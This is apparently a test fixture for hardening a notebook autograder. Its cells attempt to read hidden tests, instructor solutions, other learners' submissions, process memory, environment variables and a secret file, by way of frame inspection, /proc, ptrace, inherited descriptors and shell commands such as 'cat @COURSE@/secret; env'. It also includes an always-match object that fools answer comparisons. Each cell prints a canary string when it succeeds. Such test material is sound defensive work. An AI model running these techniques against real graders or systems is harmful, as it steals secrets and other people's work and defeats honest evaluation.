# Ways to read a hidden test, a solution, a neighbour or the machine, and print it.

# %% every="attack"
import re
BIRDS = rb"(?:quetzal|ibis|heron|osprey|magpie|kestrel)-\d+"

def processes():
    import os
    try:
        return [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        return []

def tell(data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    for bird in sorted(set(re.findall(BIRDS, data))):
        print(bird.decode())

# %% attack="the input history"
# The function prints the cell that calls it from In.
def weighted_sum(x, w, b):
    tell(get_ipython().user_ns["In"][-1])
    tell(repr(get_ipython().history_manager.input_hist_raw))
    return 11.5

# %% attack="the output history" place="end"
# A cell after the tests looks at Out, _, _i and at every name that is left.
import sys
for name, value in list(globals().items()):
    tell(repr(value))
tell(repr(Out) + _i + _ii + _iii)

# %% attack="the caller's frames"
# The function walks up its callers and prints their variables and their source.
import linecache
import sys

def weighted_sum(x, w, b):
    frame = sys._getframe()
    while frame:
        tell(repr(frame.f_locals) + repr(frame.f_code.co_consts))
        tell("".join(linecache.getlines(frame.f_code.co_filename)))
        frame = frame.f_back
    return 11.5

# %% attack="all objects"
# The garbage collector lists every container; what they hold is searched.
import gc

def weighted_sum(x, w, b):
    for value in gc.get_objects():
        if type(value) is dict:
            tell("\n".join(v for v in list(value.values()) if type(v) is str))
        elif type(value) in (list, tuple):
            tell("\n".join(v for v in value if type(v) is str))
    return 11.5

# %% attack="linecache"
# The cache of source lines that tracebacks use holds every cell that ran.
import linecache

def weighted_sum(x, w, b):
    for entry in list(linecache.cache.values()):
        if len(entry) > 2:
            tell("".join(entry[2]))
    return 11.5

# %% attack="inspect"
# inspect shows the lines around the call.
import inspect

def weighted_sum(x, w, b):
    for record in inspect.stack(context=50):
        tell("".join(record.code_context or []))
    return 11.5

# %% attack="its own memory"
# Every page of the process is searched, for whatever was there before the fork.
def weighted_sum(x, w, b):
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            place, rights = line.split()[:2]
            start, end = (int(part, 16) for part in place.split("-"))
            if "r" in rights and end - start < 2**28 and "[v" not in line:
                try:
                    memory.seek(start)
                    tell(memory.read(end - start))
                except OSError:
                    pass
    return 11.5

# %% attack="memory of all processes"
# /proc/PID/mem of every process that can be seen: parent, grader, judge.
import os

def weighted_sum(x, w, b):
    for pid in {*processes()} - {str(os.getpid())}:
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
                for line in maps:
                    place, rights = line.split()[:2]
                    start, end = (int(part, 16) for part in place.split("-"))
                    if "rw" in rights and end - start < 2**27:
                        memory.seek(start)
                        tell(memory.read(end - start))
        except OSError:
            pass
    return 11.5

# %% attack="environments of all processes" earns="all"
# Environment and command line of this process and all others.
import os
tell(repr(dict(os.environ)))
for pid in processes():
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{what}", "rb") as file:
                tell(file.read())
        except OSError:
            pass

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="ptrace the parent"
# It attaches to its parent with ptrace and reads it with process_vm_readv.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)

class Span(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def weighted_sum(x, w, b):
    for pid in {os.getppid(), 1, *range(2, 40)} - {os.getpid()}:
        if libc.ptrace(16, pid, None, None) == 0:  # PTRACE_ATTACH
            print("kestrel-1")
            libc.ptrace(17, pid, None, None)
        buffer = ctypes.create_string_buffer(64)
        here, there = Span(ctypes.addressof(buffer), 64), Span(id(None), 64)
        if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            print("kestrel-2")
    return 11.5

# %% attack="the source folder" earns="all"
# The instructor's notebooks, as text, from where the course is known to lie.
from pathlib import Path
for pattern in ("source/*/*.ipynb", "release/*/*.ipynb"):
    for path in Path("@COURSE@").glob(pattern):
        tell(path.read_bytes())

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="the course's own repository" earns="all"
# The library is imported from somewhere; the lessons' texts may lie beside it.
from pathlib import Path
import firstneuron
for folder in Path(firstneuron.__file__).resolve().parents:
    for pattern in ("course/*/lesson.py", "source/*/*.ipynb"):
        for path in list(folder.glob(pattern))[:2]:
            text = path.read_text()
            if "BEGIN " + "SOLUTION" in text:
                print("BEGIN " + "SOLUTION")

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="the gradebook"
# The gradebook holds each test cell's source.
import sqlite3

def weighted_sum(x, w, b):
    book = sqlite3.connect("file:@COURSE@/gradebook.db?mode=ro", uri=True)
    for row in book.execute("select source from source_cell"):
        tell(str(row))
    return 11.5

# %% attack="the neighbours' submissions" earns="all"
# What others handed in lies in a folder nearby.
from pathlib import Path
for folder in ("@COURSE@/submitted", "@COURSE@/autograded", "..", "../..", "../../.."):
    for path in Path(folder).glob("**/*.ipynb"):
        tell(path.read_bytes())

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a secret file" earns="all"
# A file that only the grader's user may read.
from pathlib import Path
try:
    tell(Path("@COURSE@/secret").read_text())
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="files by way of /proc" earns="all"
# The same files through /proc/PID/root and /proc/PID/cwd.
import os
from pathlib import Path
for pid in ["self", *processes()]:
    for way in ("root@COURSE@/secret", "cwd/secret", "cwd/../../../secret"):
        try:
            tell(Path(f"/proc/{pid}/{way}").read_bytes())
        except OSError:
            pass

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="inherited descriptors"
# Every open descriptor is named, and read where it can be.
import os
import stat

def weighted_sum(x, w, b):
    for fd in range(3, 1024):
        try:
            kind = os.fstat(fd).st_mode
            name = os.readlink(f"/proc/self/fd/{fd}")
            if stat.S_ISREG(kind):
                tell(os.pread(fd, 10**7, 0))
            if stat.S_ISDIR(kind):
                inner = os.open("secret", os.O_RDONLY, dir_fd=fd)
                tell(os.read(inner, 1000))
            if "gradebook" in name or "source" in name:
                print("magpie-0")
        except OSError:
            pass
    return 11.5

# %% attack="neighbours' work folders" earns="all"
# Folders of other learners who are graded at the same time.
import os
import tempfile
for top in {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.path.dirname(os.getcwd())}:
    for folder, _, names in os.walk(top):
        for name in names[:50]:
            if name.endswith((".ipynb", ".txt", ".db")):
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        tell(file.read(10**6))
                except OSError:
                    pass

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="every module's variables"
# sys.modules is searched, __main__ first.
import sys

def weighted_sum(x, w, b):
    for module in list(sys.modules.values()):
        for value in list(getattr(module, "__dict__", {}).values()):
            if isinstance(value, (str, bytes, list, tuple, dict)):
                tell(repr(value)[:100_000])
    return 11.5

# %% attack="the last traceback" place="end"
# After a test has failed, sys.last_traceback leads to its frame.
import sys
step = getattr(sys, "last_traceback", None)
while step:
    tell(repr(step.tb_frame.f_globals) + repr(step.tb_frame.f_code.co_consts))
    step = step.tb_next

# %% attack="an exception's own traceback" exercise="slope"
# The callback is made to fail; the exception leads to the frames of the test.
import linecache

def slope(f, x, h):
    try:
        f("a text")
    except Exception as error:
        tell(str(getattr(error, "remote_traceback", "")) + repr(error.__dict__))
        step = error.__traceback__
        while step:
            frame = step.tb_frame
            while frame:
                tell(repr(frame.f_globals) + repr(frame.f_locals) + repr(frame.f_code.co_consts))
                tell("".join(linecache.getlines(frame.f_code.co_filename)))
                frame = frame.f_back
            step = step.tb_next
    return 2 * x

# %% attack="the callback's globals" exercise="slope"
# A function that the test hands over knows the test's globals.
def slope(f, x, h):
    tell(repr(getattr(f, "__globals__", {})))
    for way in (lambda: f.__globals__, lambda: f.f_globals, lambda: f.__func__.__globals__):
        try:
            tell(repr(way()))
        except Exception:
            pass
    return 2 * x

# %% attack="the callback's insides" exercise="slope"
# Closure, defaults, constants and attributes of the function handed over.
def slope(f, x, h):
    for name in ("__closure__", "__defaults__", "__code__", "__kwdefaults__", "__dict__",
                 "__doc__", "__reduce__", "__self__", "__wrapped__", "__module__"):
        try:
            value = getattr(f, name)
            tell(repr(value) + repr(getattr(value, "co_consts", "")))
            tell(repr([cell.cell_contents for cell in value or ()]))
        except Exception:
            pass
    return 2 * x

# %% attack="a spy as argument" exercise="slope"
# The callback computes with an object whose operators look at the frames around.
import sys

class Spy:
    def look(self, *other):
        frame = sys._getframe()
        while frame:
            tell(repr(frame.f_locals) + repr(frame.f_globals))
            frame = frame.f_back
        return self
    __mul__ = __rmul__ = __pow__ = __sub__ = __rsub__ = __add__ = look
    def __float__(self):
        self.look()
        return 0.0

def slope(f, x, h):
    f(Spy())
    return 2 * x

# %% attack="an object that is told the answer" exercise="sign"
# Whoever compares with it by `-` or `<` gives it the expected number.
class Told:
    def __sub__(self, other):
        if other == -1.0:
            print("quetzal-0")
        return 1.0
    __rsub__ = __lt__ = __le__ = __gt__ = __ge__ = __sub__

def sign(t):
    return Told()

# %% attack="a profiler"
# sys.setprofile sees every function's code while the tests run.
import sys

def profile(frame, event, arg):
    tell(repr(frame.f_code.co_consts))

def weighted_sum(x, w, b):
    frame = sys._getframe()
    while frame:
        frame.f_trace = lambda f, e, a: tell(repr(f.f_code.co_consts))
        frame = frame.f_back
    return 11.5

sys.setprofile(profile)

# %% attack="a thread that watches"
# A thread looks at all threads' frames again and again while the tests run.
import builtins
import sys
import threading
import time

found = set()

def watch():
    for _ in range(2000):
        for frame in list(sys._current_frames().values()):
            while frame:
                text = repr(frame.f_code.co_consts)
                found.update(re.findall(BIRDS.decode(), text))
                frame = frame.f_back
        time.sleep(0.0005)

threading.Thread(target=watch, daemon=True).start()

def weighted_sum(x, w, b):
    time.sleep(0.05)
    tell(repr(found))
    return 11.5

# %% attack="who refers to my argument"
# gc.get_referrers leads from an argument to the names and the code around it.
import gc

def weighted_sum(x, w, b):
    for value in (x, w):
        for holder in gc.get_referrers(value):
            tell(repr(holder)[:10**6])
            for other in gc.get_referrers(holder)[:50]:
                tell(repr(other)[:10**5])
    return 11.5

# %% attack="when Python ends" earns="all"
# An atexit function looks once more at everything, after the last test.
import atexit
import gc

def look():
    for value in gc.get_objects():
        if type(value) is dict:
            tell("\n".join(v for v in list(value.values()) if type(v) is str))

atexit.register(look)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="names that a test leaves" earns="all" place="end"
# A cell after the tests prints the variables that the tests made.
for name in ("vault", "reference", "guarded", "right", "meter", "value", "want"):
    if name in globals():
        tell(repr(globals()[name]))
        tell(repr(getattr(getattr(globals()[name], "__code__", None), "co_consts", "")))

# %% attack="IPython's history of others" earns="all"
# The history file and the connection files in the home folder.
import os
from pathlib import Path
for top in (Path.home(), Path(os.environ.get("IPYTHONDIR", "~")).expanduser()):
    for pattern in (".ipython/**/*", ".local/share/jupyter/runtime/*", "*"):
        for path in list(top.glob(pattern))[:200]:
            if path.is_file():
                try:
                    tell(path.read_bytes()[:10**7])
                except OSError:
                    pass

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="the network" earns="all"
# A service on this machine is asked: a scheduler, a database, formgrader.
import socket

def ask(port):
    with socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
        tell(connection.recv(100))

try:
    ask(@PORT@)
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b

# %% attack="a shell" earns="all"
# The same questions asked by other programs.
import os
import subprocess
os.system("cat @COURSE@/secret @COURSE@/source/*/*.ipynb 2>/dev/null; env")
try:
    tell(subprocess.run(["cat", "@COURSE@/secret"], capture_output=True).stdout)
    get_ipython().system("cat @COURSE@/secret")
except OSError as error:
    print(error)

def weighted_sum(x, w, b):
    return x @ w + b
